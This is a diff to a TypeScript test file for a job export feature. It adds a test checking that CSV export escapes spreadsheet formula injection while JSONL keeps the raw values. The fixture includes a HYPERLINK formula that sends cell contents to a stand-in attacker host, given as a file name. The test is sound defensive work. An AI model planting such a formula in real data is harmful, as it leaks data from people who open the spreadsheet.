@@ -35,8 +35,8 @@ async function createJobs(store: JobStore, count: number, name: (i: number) => s
   return created;
 }
 
-async function finish(store: JobStore, result: JobResult): Promise<JobView> {
-  const worker = { id: 'w1', name: 'test worker', backend: 'cpu', identity: 'w1', workerClass: 'trusted' as const };
+async function finish(store: JobStore, result: JobResult, name = 'test worker'): Promise<JobView> {
+  const worker = { id: 'w1', name, backend: 'cpu', identity: 'w1', workerClass: 'trusted' as const };
   const [lease] = await store.lease([worker], 60_000, Date.now());
   const done = await store.complete(lease!, worker.id, result, Date.now());
   if (!done.applied) throw new Error(`complete refused: ${done.reason}`);
@@ -130,6 +130,19 @@ describe.each(STORES)('export on $name', ({ overrides }) => {
     });
     expect(lines.map((job) => job.id)).toEqual([...older, ...newer].reverse().map((job) => job.id));
     expect(lines.find((job) => job.id === done.id)).toEqual(done);
+  });
+
+  it('writes what strangers typed as text a spreadsheet will not run, in CSV only', async () => {
+    master = await startTestMaster(overrides());
+    const fileName = '=HYPERLINK("http://attacker.test/?leak="&A1,"open").png';
+    await createJobs(master.store, 1, () => fileName);
+    const result = { predictions: [{ index: 0, label: 'tench, Tinca tinca', probability: 0.9 }], model: 'abc123', backend: 'cpu', inferenceMs: 1 };
+    await finish(master.store, result, '@SUM(1+1)');
+
+    const [row] = await exportRows(master, 'format=csv');
+    expect([row!.fileName, row!.worker]).toEqual([`'${fileName}`, "'@SUM(1+1)"]);
+    const [line] = (await fetch(exportUrl(master, 'format=jsonl')).then((response) => response.text())).split('\n');
+    expect(JSON.parse(line!)).toMatchObject({ fileName, worker: '@SUM(1+1)' });
   });
 
   it('answers 400 with the field named for a bad query', async () => {
